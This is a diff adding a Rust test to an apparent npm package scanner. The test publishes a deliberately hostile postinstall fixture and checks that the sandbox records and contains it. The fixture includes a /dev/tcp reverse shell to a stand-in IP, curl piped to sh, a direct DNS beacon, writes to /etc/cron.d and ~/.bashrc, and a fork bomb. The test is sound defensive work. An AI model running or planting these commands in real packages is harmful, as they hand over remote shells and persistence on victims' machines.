@@ -312,3 +312,111 @@ fn a_real_package_from_the_npm_registry_installs_in_the_sandbox() {
     assert_eq!(run["phases"][0]["exit_code"], 0, "{run:#}");
     assert_eq!(report["verdict"]["level"], "clean");
 }
+
+/// Hostile shapes the sandbox must record, contain and clean up: a reverse shell to an IP
+/// literal, curl piped to sh, a DNS question sent straight to a resolver address of the
+/// package's own choosing, writes to /etc and ~/.bashrc, a fork bomb, a process that
+/// acts after the install exits, and an endless loop that only the time limit ends.
+const HOSTILE_SCRIPT: &str = r#"
+const cp = require('child_process');
+const dgram = require('dgram');
+const fs = require('fs');
+const os = require('os');
+// A DNS question for beacon.example sent straight to 198.51.100.53:53.
+const query = Buffer.concat([
+  Buffer.from([0x12, 0x34, 0x01, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00]),
+  Buffer.from([6]), Buffer.from('beacon'), Buffer.from([7]), Buffer.from('example'), Buffer.from([0]),
+  Buffer.from([0x00, 0x01, 0x00, 0x01]),
+]);
+const udp = dgram.createSocket('udp4');
+udp.send(query, 53, '198.51.100.53', () => udp.close());
+try { fs.writeFileSync('/etc/cron.d/dsca-fixture', '* * * * * root true\n'); } catch (e) {}
+fs.appendFileSync(os.homedir() + '/.bashrc', '\nexport FIXTURE=1\n');
+cp.spawn('sh', ['-c', 'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1'], { stdio: 'ignore', detached: true }).unref();
+cp.spawn('sh', ['-c', 'curl -s http://stage.example/run.sh | sh'], { stdio: 'ignore', detached: true }).unref();
+cp.spawn('sh', ['-c', 'sleep 1; echo late > /tmp/late-marker; sleep 100'], { stdio: 'ignore', detached: true }).unref();
+cp.spawn('sh', ['-c', 'b() { b | b & }; b'], { stdio: 'ignore', detached: true }).unref();
+setTimeout(() => { for (;;) {} }, 1500);
+"#;
+
+#[test]
+fn hostile_shapes_are_recorded_contained_and_cleaned_up() {
+    if !sandbox_tests_enabled("hostile_shapes_are_recorded_contained_and_cleaned_up") {
+        return;
+    }
+    let registry = TestRegistry::start();
+    registry.publish(
+        PackageBuilder::new("busy-helper", "1.0.0")
+            .script("postinstall", "node setup.js")
+            .file("setup.js", HOSTILE_SCRIPT)
+            .file("index.js", "module.exports = 1;\n")
+            .build(),
+    );
+    let home = TempHome::new();
+    let started = std::time::Instant::now();
+    let (code, report, stderr) = scan_json(dsca(&home).args([
+        "scan",
+        "--dynamic",
+        "--install-timeout",
+        "12",
+        "--import-timeout",
+        "5",
+        "--format",
+        "json",
+        "--registry",
+        registry.url(),
+        "busy-helper@1.0.0",
+    ]));
+    assert_eq!(code, 0, "stderr: {stderr}\n{report:#}");
+    // The endless loop ended at the time limit, not later.
+    assert!(started.elapsed() < std::time::Duration::from_secs(60));
+    let run = &report["dynamic"];
+    assert_eq!(run["phases"][0]["status"], "timeout", "{:#}", run["phases"]);
+
+    let dns = run["dns"].as_array().cloned().unwrap_or_default();
+    assert!(
+        dns.iter()
+            .any(|q| q["name"] == "beacon.example" && q["resolver"] == "198.51.100.53:53"),
+        "the direct DNS question was not answered and recorded: {dns:#?}"
+    );
+    let connections = run["connections"].as_array().cloned().unwrap_or_default();
+    assert!(
+        connections
+            .iter()
+            .any(|c| c["destination"] == "198.51.100.9" && c["port"] == 4444),
+        "the reverse shell's connection was not seen: {connections:#?}"
+    );
+    let urls = texts(&run["http"], "url");
+    assert!(
+        urls.iter().any(|u| u == "http://stage.example/run.sh"),
+        "{urls:?}"
+    );
+    let files = run["files"].as_array().cloned().unwrap_or_default();
+    assert!(
+        files
+            .iter()
+            .any(|f| f["path"].as_str().is_some_and(|p| p.ends_with("/.bashrc"))),
+        "{files:#?}"
+    );
+    assert!(
+        !std::path::Path::new("/etc/cron.d/dsca-fixture").exists(),
+        "the package wrote to the host's /etc"
+    );
+    let processes = run["processes"].as_array().cloned().unwrap_or_default();
+    assert!(
+        processes.len() > 20,
+        "the fork bomb left few processes: {}",
+        processes.len()
+    );
+    let rules = rule_ids(&report);
+    for rule in ["DSCA1001", "DSCA1002", "DSCA1005", "DSCA1006", "DSCA1010"] {
+        assert!(rules.iter().any(|r| r == rule), "{rule} missing: {rules:?}");
+    }
+    assert_eq!(report["verdict"]["level"], "malicious", "{rules:?}");
+    // Every process the run started ended: by itself or killed when the phase ended.
+    let unended: Vec<&Value> = processes.iter().filter(|p| p["end"].is_null()).collect();
+    assert!(
+        unended.len() <= 1,
+        "processes never seen to end: {unended:#?}"
+    );
+}
